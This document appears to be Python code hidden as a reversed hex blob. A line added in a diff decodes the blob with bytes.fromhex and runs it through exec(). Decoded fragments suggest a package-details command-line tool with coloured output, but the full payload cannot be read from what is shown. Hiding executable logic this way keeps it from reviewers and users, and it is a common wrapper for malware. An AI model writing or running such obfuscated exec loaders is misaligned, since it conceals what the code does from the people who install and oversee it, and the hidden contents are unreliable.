6166402020202020202020202020202020202a0c26302020202020202020202020202020202a0c222263353461633332316661663d293566316d243336643d273364603d226535336935326532202020202020202020202020202020202a0c222661353130323365303036623d283334383d236436643d203936643d246464646336346532202020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a08237c69616475646f5567616b6361607f547567602d3024607020202020202020202020202a097f63656440232020202020202020202020202a0a372937202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a0c222473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d6971607f537962717f577f68637020202020202020202020202a0a372437202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a056572745d3971607565607f68637f5564657c636875602020202020202020202020202020202a0c222473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d69716079647c657d6f577f68637020202020202020202020202a0a372337202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b65636026202e6162716971626d6560702e616b657b616c602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a022951405545405f4843522d346f6864756d6f547e656d6971607f5563627f66602020202020202020202020202020202a0c222473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0822367f547e656d69716079647c657d6f577f68637020202020202020202020202a0a372237202d3d302563696f68636026696c6560202020202020202a05657274502e62757475627020202020202020202020202a09222e296c61626d656b602b65747e65702275647e65402e616b6564502e2c48597d402963716b696c6071602964602e61696c65626d6560702c69637168602b6563602e616b68616c696352282475707e696020202020202020202020202a092020202020202020202020202a022473727966622d346563757f547e657f6d61602020202020202020202020202020202a0c25657274502020202020202020202020202020202a0c227f666f547e656d697160702020202020202020202020202020202a0c237d6564796f547e656d697160702020202020202020202020202020202a0c237e656b6f64702020202020202020202020202020202a0c29756b6f596071602020202020202020202020202020202a0825636e616c61626f547e656d656c647475637020202020202020202020202a0925637962707275647e656f5379602c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f596071682567616b6361607f556371686362757070232020202020202020202020202a0a372137202d3d302563696f686360266960202020202020202a00202020202020202a05657e69647e6f636020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f62602964602164616028616465737024756b61605228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222e2b62716d6b6f6f6260256b602e616b6861626d61647964602c696371686275626024756b61605228247e696270702020202020202020202020202020202a0a337375636365737026696020202020202020202020202a092020202020202020202020202a0c227564627f6f5e6f6964707f6d327564627f602020202020202020202020202020202a0c256d616e6f5e6f6964707f6d356d616e6f5e6f6964707f602020202020202020202020202020202a0c256d616e6f547e61696271667d356d616e6f547e6169627166702020202020202020202020202020202a0c25637962707275647e656f53796d35637962707275647e656f5379602020202020202020202020202020202a0c2922222c22256d616e62282475676e292d7b702c22297c696d61666f5567616b63616072282475676e2567616b6361607d356d616e6f597c696d6166602020202020202020202020202020202a0c2922222c2225646f636f597c696d61666f5567616b63616072282475676e292d7b702c22297c696d61666f5567616b63616072282475676e2567616b6361607d35646f636f597c696d6166602020202020202020202020202020202a082b62716d6b6f6f626f5464616e25636e6164737e694b62716d6b6f6f62402d30237375636365737020202020202020202020202a0b62716d6b6f6f62602f647024646140232020202020202020202020202a0a313d202d3120227564627f6f5e6f6964707f60246e6160222032202d3d302563696f686360266960202020202020202a05637c6166402e62757475627020202020202020202020202a0a32203032202d3d302563696f686360266960202020202020202a0922202e302e6168696c696052282475707e69602d302563696f686360202020202020202a0a09222d75323a272d272b722668247e69627070202020202020202a092224756b61607022716476616460256b60296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222b62716d6b6f6f6240256b602861626d61645026949f90f02e2d74554355425e256c6974735b7d503b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0a313d202d3120227564627f6f5e6f6964707f60266960202020202020202a0a092229216964656372756470216b696a682023757e6f626029616761626563702c69626d6140218e8f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e6962707020202020202020202020202a0a3222554843455f465f5d454544454252202d3d30227f666f547e656d69716070266960202020202020202a00202020202020202a022547414b4341405f59555242202d30227f666f547e656d6971607020202020202020202020202a0a3222202d3d30227f666f547e656d69716070266960202020202020202a0547414b4341405f595552402f6470247c657166656460247563702567702f63702c2974707d6560237960227f666f547e656d6971607023756d6964756d6f63502320202020202020202a00202020202020202a0922235942515021b39f90f02e2d74554355425e256c6974735b7d543b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222921697e6e69616c482024756c6c61675d254023b29f90f02e2d74554355425e256c6974735b7d533b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222971605565607f68635023b29f90f02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092221637c65705020b29f90f02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222a3e61696c65626d6560502963707f4e6c5228247e69627070202020202020202a0a357e656d6f5c69616475646f5567616b6361607f5e6960256c696867702020202a05657274502d30257e656d6f5c69616475646f5567616b6361607f5e69602020202a002020202a09222d75353a272d272b722668247e696270702020202a09222d7c69616475646b7e6c5a3c48597d402b4e63522668247e696270702020202a09222d75353a272d272b722668247e696270702020202a09222d79223d347e65646e69602c237e6f6464616823707d65746e2e6f637a6b7e6c5a337e6f646461422668247e696270702020202a0a09202020202023202020202a0920202020202020202023202020202a0c22222d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202023202020202a0c203d3871647020202020202020202020202023202020202a0c2d52256d616e622b53757e6f626d356d616e6f5d6564796020202020202020202020202023202020202a0c203d35636962707f5d6564796020202020202020202020202023202020202a0c22222d356079747f547365746f62707020202020202020202020202023202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b53757e6f626d35646f636f5d6564796020202020202020202020202023202020202a082d656479447e656d69716050202020202020202023202020202a08246e656070716e237d6564796f547e656d697160702020202023202020202a0a337563757e6f62602e696023757e6f6260227f666023202020202a076e69647375647025627f6d602465656e602c237563757e6f62602c6c61602b6369605023202020202a002020202a09202020202023202020202a0920202020202020202023202020202a0c22222d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202023202020202a0c203d3871647020202020202020202020202023202020202a0c2d52256d616e622b5d503b537563757e6f626d356d616e6f5d6564796020202020202020202020202023202020202a0c203d35636962707f5d6564796020202020202020202020202023202020202a0c22222d356079747f547365746f62707020202020202020202020202023202020202a0c2d5225646f636f5e6f6964707f6f5567616b636160722b5d503b537563757e6f626d35646f636f5d6564796020202020202020202020202023202020202a082d656479447e656d69716050202020202020202023202020202a08246e656070716e237d6564796f547e656d697160702020202023202020202a0a30302e3029237563757e6f62682e656c6026696023202020202a076e69647375647025627f6d602465656e602c256c62616c696166716026696023757e6f6260247371302b6369605023202020202a002020202a092d5b502c22237563757e6f6262282475676e237e6f646461602d30237563757e6f62602020202a0a002020202a0925646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f59607168237e6f6464616f547567602d30237e6f646461602020202a09222d75353a272d272b722668247e6962707020202020202020202020202a0922237569502a346564796d696c6e6550202228247e696270702020202020202020202020202020202a0a3d52246564796d696c6e657f5379622b547966656e65626026696020202020202020202020202a0020202020202020202020202a0922292d756079747f516471646b78202d7d572c61647f64772b547966656e65626b702a3c61647f645020222668247e696270702020202020202020202020202020202a0a3d522458554452202c222543494f4652202c2221445144422b502e6960247f6e60256079747f516471646026696c656020202020202020202020202a09222d71647f65717b702a3c61647f645020222668247e6962707020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a0922224b402d76623e2a326b6f51647f65717b702a31647f65715020222668247e6962707020202020202020202020202020202020202020202020202a04323031302f2021647f6571702d30226b6f51647f65717020202020202020202020202020202020202020202020202a0a3030303f51302d3e3021647f65717026696c6560202020202020202020202020202020202020202a0922224d402d76623e2a326d6f51647f65717b702a31647f65715020222668247e6962707020202020202020202020202020202020202020202020202a0922302a2a202432303138202f2021647f6571702d30226d6f51647f65717020202020202020202020202020202020202020202020202a0a3030303f5030303f51302d3e3021647f65717026696c6560202020202020202020202020202020202020202a09222247402d76623e2a32676f51647f65717b702a31647f65715020222668247e6962707020202020202020202020202020202020202020202020202a0923302a2a202432303138202f2021647f6571702d3022676f51647f65717020202020202020202020202020202020202020202020202a0a3030303f5030303f5030303f51302d3e3021647f657170266960202020202020202020202020202020202020202a0247402e6960247960256b616d602c25647972602e69602379602479402320202020202020202020202020202020202020202a092d572c61647f64772b547966656e656268247e69602d3021647f657170202020202020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e6562602669602020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e656260246e6160222144514442202d3d30256079747f516471646026696c656020202020202020202020202a0922235d43502d7d572c61647f64772b547966656e65626b702a3c61647f645020222668247e696270702020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e656260246e6160222458554452202d3d30256079747f516471646026696c656020202020202020202020202a092224796e656d602d70363f2d572c61647f64772b547966656e65626b702a3c61647f645020222668247e696270702020202020202020202020202020202a0a30302e302d572c61647f64772b547966656e656260246e6160222543494f4652202d3d30256079747f516471646026696020202020202020202020202a0d57256079747f51647164672b547966656e6562602d30256079747f516471646020202020202020202020202a09222d7d5724696f5d656479672b547966656e65626b702a3469602d6564794020222668247e6962707020202020202020202020202a09222d7d57256d616e672b547966656e65626b702a356d616e40222668247e6962707020202020202020202020202a0a33747966656e6562602e6960247966656e656260227f6660202020202020202a09222a34756b616050247966656e65624228247e69627070202020202020202a0a392473796c602c23747966656e65626825636e6164737e69637960246e616023747966656e6562602669602020202a0d5223747966656e6562622b5d522e6f6964707f6f5567616b636160722b5567616b636160702d3023747966656e6562602020202a09222d75353a272d272b722668247e696270702020202a09222d7d57247e696f60772b5d572e6f6964707f6f5567616b636160772b5567616b6361607b702a30202020202020247e696f605020222668247e696270702020202a09222d727f666f547e656d6971607b702a30227f6640247e656d6971605020222668247e696270702020202a09222d7d57256079747f5e616c60772b5d57297c696d61666f5567616b636160772b5567616b6361607b702a3020202020202020256079645020222668247e696270702020202a09222d79747964696c61667b702a30202669647b61402163716d4020222668247e696270702020202a09222d75636962707b702072502a3020202020202021676271684020222668247e696270702020202a002020202a0d502020202a0920202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f647020202020202020202020202a0c203d3871647020202020202020202020202a0c292820796274737e222d756d616e6f5e6f6964707f6b702d756d616e6f547e61696271667b72266d356d616e6f5d6564796020202020202020202020202a0c25636962707d35636962707f5d6564796020202020202020202020202a0c22222d356079747f547365746f62707020202020202020202020202a0c25646f636f5e6f6964707f6f5567616b6361607d35646f636f5d6564796020202020202020202020202a082d656479447e656d69716050202020202020202a0b502d30237d6564796f547e656d697160702020202a002020202a0d52227f666f547e656d697160722b5d52297c696d61666f5567616b636160722b5567616b636160702d30227f666f547e656d697160702020202a0d52207d616473756d6964722b5567616b636160702d302e6769637f5f647f5374702020202a0d522e6f6964716d6279666e6f636f5e656b6f64722b5567616b636160702d302e6f6964716d6279666e6f636f5e656b6f64702020202a002020202a09222d756c6479647b702a34756b6160502c69616475644026a39f90f226682275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a0a092820796274737e222d756d616e6f5e6f6964707f6b702d202d756d616e6f547e61696271667b702d202d756d616e6f597c696d61666b7226602d30256c647964702020202a002020202a0f6964696653202922222c22256d616e62282475676e292d7b702c222e6f6964707f6f5567616b63616072282475676e2567616b636160702d30256d616e6f5e6f6964707f602020202a0f626d6f63402162747850227f6643202922222c22256d616e62282475676e292222202c22247e61696271667f5c69616475646f5567616b63616072282475676e2567616b636160702d30256d616e6f547e6169627166702020202a0f6262757450246564796d696c6e6553202922222c22256d616e62282475676e292d7b702c22297c696d61666f5567616b63616072282475676e2567616b636160702d30256d616e6f597c696d6166602020202a0f6964696653202922222c22256d616e62282475676e292d7b702c222e6f6964707f6f5567616b63616072282475676e2567616b636160702d30256d616e6f5e6f6964707f602020202a0a0d5229747964696c6166722b5d522e6f6964707f6f5567616b636160722b5567616b636160702d3029747964696c6166702020202a092d52236e64722b5d522e6f6964707f6f5567616b636160722b5567616b636160782c6d64786f59716c60737964602d302c6961647564602020202a0d522563696270722b5d522e6f6964707f6f5567616b636160722b5567616b636160702d302563696270702020202a0a05637c6166402e627574756270202020202020202a0928256375716070202020202020202a09222e237c6961647564602567616b6361607024616f6c602f647024656c6961664228247e69627070202020202020202a0a3567616b63616070247f6e602669602020202a09222d79213d347e65646e69602c2567616b6361607823707d65746e2e6f637a6b7e6c5a3d5230323d2440535b522668247e6962707023202020202a0925646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302567616b636160702020202a0a39213d202d30227564627f6f5e6f6964707f602c25637962707275647e656f5379602c25646f636f5e6f6964707f6f5567616b636160702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f577f6863702665646a0a0a0d656479447e656d6971605024727f607d6960247369646f556079747e207071602d6f62766a01647f65717f54716d627f666024727f607d69602c6964757e207071602d6f62766a05636e6164737e694b62716d6b6f6f62497c696d61664024727f607d69602b62716d6b6f6f626f597c696d61666e256369667275637e207071602d6f62766a05636e616c61626f547e656d656c647475637024727f607d696025636e616c61626e247e65696c636e207071602d6f62766a02367f547e656d69716079647c657d6f577f68637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a02367f547e656d6971607f537962717f577f68637024727f607d6960237962717e247e65696c636e207071602d6f62766a056c697473502c2275646165686f547e696270702c2c6d64786f59716c60737964602c2563757160702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a047e656d69716079647c657d6f577f68637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a09747e657f626f547e656d656c64747563702c247e656d6971607f537962717f577f68637024727f607d696025637168636275707e247e65696c636e207071602d6f62766a05636e6164737e694b62716d6b6f6f624024727f607d69602b62716d6b6f6f626e256369667275637e207071602d6f62766a047375657175627f5960716f546e6563702c2567616b6361607f5563716863627570702c237c69616475646f5567616b6361607f547567602c237e6f6464616f547567602c2567616b6361607f547567602c22367f597c696d61666f547567602c297c696d61666f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a056d6964756471646024727f607d6960256d696475647164602d6f62766a0379737024727f607d696a0e6f637a6024727f607d696" ));
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282563757160702020202a00202020202020202a056e6f6e402e627574756270202020202020202a0a356e6f646f5379602669602020202a0925637c6166402c2d5225646f636f51647f6571722b576b607f54656473656c6563702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f577f6863702d30256e6f646f5379602020202a002020202a056e6f6e402e627574756270202020202020202a09222e22716e656260276e616970227f6d6f6e602e616b6573716d602e616b616c6963502e2e616b657d65647964602b616469647024756b61605228247e69627070202020202020202a0a376b607f54656473656c656370247f6e602669602020202a002020202a09256e6f6e402c292563696f6863602d3d30292d522275626d657e622b576b607822747370266960237567616b6361607f597d602e6960276b6070227f6660276b6078282478756e602d30276b607f54656473656c6563702020202a056e6f6e402e627574756270202020202020202a0a32203032202d3d302563696f6863602669602020202a0922202e302e6168696c696052282475707e69602d302563696f6863602020202a09222d75353a272d272b722668247e696270702020202a0922216d61647550257e656d40256b60296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202a09222929757265625820276e616c6570296c65626d656d602b65747e6570227f6d6f6e6028696c6960502022a49f90f0202228247e696270702020202a09222d75353a272d272b722668247e696270702020202a002020202a01302d3b202d657e60202020202020202a00202020202020202a092d70202020202020202a0c25646f636f51647f6571702a3225646f636f51647f6571722020202020202020202020202a0c2d657e602a322275626d657e622020202020202020202020202a0b78246e656070716e237567616b6361607f597d60202020202020202a00202020202020202a09222d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d20202228247e6962707020202020202020202020202a09222d7274737f51647f657b6b702a3021647f657b40202020222668247e696270702020202020202020202020202020202a002020202020202020202020202020202a09276e696e69616d656278227473702d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a022d7c61647f647b702f202d776e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a02235d43502d776e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a02235d43502d7c61647f647b702f202d776e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a0a322458554452202d3d30256079747f516471646026696c65602020202020202020202020202020202a0224796e656d602d76623e2a30363f276e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a0224796e656d602d76623e2a30363f2c61647f647b702f202d76623e2a30363f276e696e69616d65627b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a0a322543494f4652202d3d30256079747f516471646026696c65602020202020202020202020202020202a022d74796e657f576e696e69616d65627b702d74554355425e256c6974735b7d7c61667f576e696e69616d65627b7d7445425e256c6974735b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a35637c6560202020202020202020202020202020202020202a022d74796e657f5c61647f647b702d74554355425e256c6974735b7d7c61667f5c61647f647b7d75455c424e256c6974735b702f202d74796e657f576e696e69616d65627b702d74554355425e256c6974735b7d7c61667f576e696e69616d65627b7d7445425e256c6974735b7226602d302274737f51647f657b6020202020202020202020202020202020202020202020202a0a30302e302c61647f6470266960202020202020202020202020202020202020202a00202020202020202020202020202020202020202a0925657274502c2c61647f647821647f65717f54716d627f66602d3024796e657f5c61647f64702c2c61667f5c61647f6470202020202020202020202020202020202020202a0925657274502c276e696e69616d65627821647f65717f54716d627f66602d3024796e657f576e696e69616d6562702c2c61667f576e696e69616d656270202020202020202020202020202020202020202a0a322144514442202d3d30256079747f51647164602669602020202020202020202020202020202a0a0222202d302274737f51647f657b602020202020202020202020202020202a0920302c222c61647f6472282475676e247966656e6562602d302c61647f64702020202020202020202020202020202a0920302c22276e696e69616d656272282475676e247966656e6562602d30276e696e69616d6562702020202020202020202020202020202a0a09222d756079747f516471646b702a30202560797450202020222668247e696270702020202020202020202020202020202a09222d756d616e6b702a3020256d616e40202020222668247e696270702020202020202020202020202020202a09222d74696f547966656e65626b702a30202020244940202020222668247e696270702020202020202020202020202020202a09222d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d20202228247e696270702020202020202020202020202020202a002020202020202020202020202020202a0922214f2e42202c22256079747f5164716462282475676e247966656e6562602d30256079747f51647164602020202020202020202020202020202a092222202c22256d616e62282475676e247966656e6562602d30256d616e602020202020202020202020202020202a092222202c22246962282475676e247966656e6562602d3024696f547966656e6562602020202020202020202020202020202a0a33747966656e6562602e6960247966656e656260227f666020202020202020202020202a09222d74554355425e256c6974735b7a30202023747966656e65624d775f4c4c45495e256c6974735b7020222668247e6962707020202020202020202020202a0a33747966656e656260266960202020202020202a092d5b502c2223747966656e656262282475676e21647f6571702d3023747966656e656260202020202020202a0d2d2d2023545946454e4542402e414b4c49405d414e454d402b45545e455025444f4b402e414841424d414e4540502d2d2d202320202020202020202a0a09222d74554355425e256c6974735b7d75646f636f50757f62776b702a3025646f634020757f62774d7e454542574e256c6974735b7020222668247e69627070202020202020202a09222d74554355425e256c6974735b7d7274737f54716f546562796078756b702a302025647164402e2078754d7e454542574e256c6974735b7020222668247e69627070202020202020202a09222d74554355425e256c6974735b7d79747964696c61667b702a302669647b61402163716d4d7e454542574e256c6974735b7020222668247e69627070202020202020202a09222d74554355425e256c6974735b7d75646f636f51647f65717b702a3025646f634021647f65715d7e454542574e256c6974735b7020222668247e69627070202020202020202a00202020202020202a09222d74554355425e256c6974735b7d756d616e6f5c616964796e696b702a30202020202020216d616e4d7e454542574e256c6974735b7020222668247e6962707020202020202020202020202a0c69626d616964602c616761676024756b6160702c696164756460216b696a602b6361626c6c616640232020202020202020202020202a0a35637c6560202020202020202a09222d74554355425e256c6974735b7d75646f636f597c696d61666b7d775f4c4c45495e256c6974735b702a35646f6340297c696d61664d7e454542574e256c6974735b7020222668247e6962707020202020202020202020202a0922214f2e42202c2225646f636f597c696d61666f5567616b63616072282475676e292d7b702c22297c696d61666f5567616b63616072282475676e237c69616475646f5567616b636160702d3025646f636f597c696d61666020202020202020202020202a09222d74554355425e256c6974735b7d756d616e6b702a30202020202020216d616e4d7e454542574e256c6974735b7020222668247e6962707020202020202020202020202a0020202020202020202020202a092723552a3d452a38452024652d2d652d29552728256d6964766274737e29207d616473756d69647f54716f5465627960787568207d616473756d69647d6f62766e256d696475647164602d302274737f54716f54656279607875602020202020202020202020202020202a0a307d616473756d69647f54716f546562796078756026696020202020202020202020202a01647f65717f5d6f62766f507d616473756d69647f54716f5465627960787560227f60292224716f5465627960787562282475676e2e6f6964707f6f5567616b636160702d30207d616473756d69647f54716f546562796078756020202020202020202020202a0c6167716021647f6571702473796c60256b602b6361626c6c6166602c2c696164756460296271646024716f54656279607875602e616b63716479627f69627050232020202020202020202020202a0020202020202020202020202a0922214f2e42202c2229747964696c616672282475676e2e6f6964707f6f5567616b636160702d3029747964696c61667020202020202020202020202a09256d616e6f5c616964796e69602c22256d616e62282475676e2e6f6964707f6f5567616b636160702d30256d616e6020202020202020202020202a0a0925637c6166402c22246564796d696c6e657f537962282475676e2e6f6964707f6f5567616b636160702d30246564796d696c6e657f53796f5c69616475646020202020202020202020202a0920302c222c61647f6472282475676e2e6f6964707f6f5567616b636160702d302c61647f647f5c69616475646020202020202020202020202a0920302c22276e696e69616d656272282475676e2e6f6964707f6f5567616b636160702d30276e696e69616d65627f5c69616475646020202020202020202020202a016574656b602275626d657370296167616265637024756b6160702c696164756460296271646021647f657b6021647164602c69626d6140232020202020202020202020202a0020202020202020202020202a092d7b702c222e6f6964707f6f5567616b63616072282475676e237c69616475646f5567616b636160702d302e6f6964707f6f5567616b6361607020202020202020202020202a04756b6160702c6961647564602962716460247162757b6160286962656c60276e61697021647164602c69626d6140232020202020202020202020202a0a337c69616475646f5567616b63616070266960202020202020202a00202020202020202a09222d74554355425e256c6974735b7d7d657e6b732024756b61605d7e4149534e256c6974735b722668247e69627070202020202020202a09222d75353a272d272b722668247e69627070202020202020202a02214f2e42202d302274737f54716f5465627960787560202020202020202a02214f2e42202d3029747964696c616670202020202020202a00202020202020202a092224716f5465627960787562282475676e21647f6571702d3021647f65717f5d6f62766f507d616473756d69647f54716f5465627960787560202020202020202a0a0925637c6166402c22246564796d696c6e657f537962282475676e21647f6571702d30246564796d696c6e657f53796f5c616964796e6960202020202020202a0920302c222c61647f6472282475676e21647f6571702d302c61647f647f5c616964796e6960202020202020202a0920302c22276e696e69616d656272282475676e21647f6571702d30276e696e69616d65627f5c616964796e6960202020202020202a0924756b6160702271647661646820216d616475702275626d657370296271646021647f657b6021647164602c69626d61402320202020202020202a0d52256d616e622b51647f6571702d30256d616e6f5c616964796e6960202020202020202a0d5225646f636f50757f6277622b51647f6571702d3025646f636f50757f627760202020202020202a05646f636f5e6f6964707f6023716024656375702562602e61634023202d5225646f636f51647f6571722b51647f6571702d3025646f636f51647f657170202020202020202a0a39237c69616475646f5567616b6361607f5c6c61602c2371647f65717820796a702e6960237c69616475646f5567616b636160702c21647f657170227f66602020202a01302d302d657e602020202a0d5b5d30237567616b6361607f597d602020202a0922216971635024756b61605026a39f90f2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a002020202a09202020202a092d5371647f6571702e696021647f657170227f66602d5225646f636f51647f6571722b51647f65717b502c237e656b6f64702c29756b6f59607168237567616b6361607f5475676e236e6973716f5c6563776e6560202020202020202a082e65727e236e6973716f5c6563776e65602d30237c69616475646f5567616b6361607f5c6c61602020202a09222e2e2e237c6961647564602567616b636160702d792371647f6571782e656c6b70276e696863647566422668247e696270702020202a002020202a0d522371647f6571722b5d5221647164622b537562702d302371647f6571702020202a002020202a056e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09237562702c222a35637e6f607375625228247e69627070202020202020202a0922237567616b636160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e237562702669602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e237567616b63616070297d60276e6968636475664228247e696270702020202a002020202a0d702020202a0222202a3224696f5275626d656d6f597c696d61666220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a002020202a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d3028647160702020202a002020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a002020202a056e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e246e657f6660237e656b6f64702275637570256679647361602f6e4228247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a3928237567616b6361607f597d6f5863647566602665646a0a037567616b636160702e6275747562702020202a00202020202020202a05657e69647e6f636020202020202020202020202a0928256375716070202020202020202020202020202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a0b6165627260202020202020202020202020202020202020202a0a32203032202d3d302563696f68636f547e656d6971607026696c65602020202020202020202020202020202a0b6165627260202020202020202020202020202020202020202a05637c6166402d30257e656d6f5567616b6361607f5e6960202020202020202020202020202020202020202a0925637962707275647e656f5379602c276b607f54656473656c65637825637168636275707f556c646e65726f556c646e616860202020202020202020202020202020202020202a0a322232202d3d302563696f68636f547e656d6971607026696c65602020202020202020202020202020202a002b6165627260202020202020202020202020202020202020202a05637c6166402d30257e656d6f5567616b6361607f5e696020202020202020202020202020202020202020202020202a0a356e6f646f537960266960202020202020202020202020202020202020202a092d52227564627f6f5e6f6964707f622b576b607f54656473656c65637d327564627f6f5e6f6964707f602c25637962707275647e656f5379602c2d5225646f63622b576b607f54656473656c6563702c237e656b6f64702c29756b6f59607168237c69616475646f5567616b6361607f577f6863702d30256e6f646f537960202020202020202020202020202020202020202a0a322132202d3d302563696f68636f547e656d697160702669602020202020202020202020202020202a0a0922202e302e6168696c696052282475707e69602d302563696f68636f547e656d697160702020202020202020202020202020202a0922296c61626d656b402e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a0922292c6f6f6863635026202b627f675820276e696c646e6572402e6162716971626d6560502e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a09222c616d627f6e402e6162716971626d6560502e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a09222a3e6162716971626d65607025646f64756d6028696c69605e6c5228247e696270702020202020202020202020202020202a0a3565727450256c6968677020202020202020202020202a0a35637c6560202020202020202a056e6f6e402c256e6f6e402e6275747562702020202020202020202020202020202a09282563757160702020202020202020202020202020202a09222e24756b6160702c6961647564602c69626d61676e656d602c616761674228247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a056d616e6f59716c60737964602c2c69616475646f5567616b636160702e6275747562702020202020202020202020202020202a022d7d57256d616e6f5e6f6964707f672b576b607f54656473656c65637b702d202d7d57256d616e6f547e6169627166772b576b607f54656473656c65637b702d202d7d57256d616e672b5d57297c696d61666f5567616b636160772b516471646b7226602d30256d616e6f59716c60737964602020202020202020202020202020202a0a3c69616475646f5567616b6361607026696020202020202020202020202a0925637c61664d35686361636f556375702c2d5225646f63622b576b607f54656473656c6563702c237e656b6f64702c29756b6f596071682567616b6361607f547567602d302c69616475646f5567616b6361607020202020202020202020202a09222e2e2e24756b6160702c6961647564602c69626d61676e656d4228247e6962707020202020202020202020202a0a3c69616475646f5567616b6361607f5e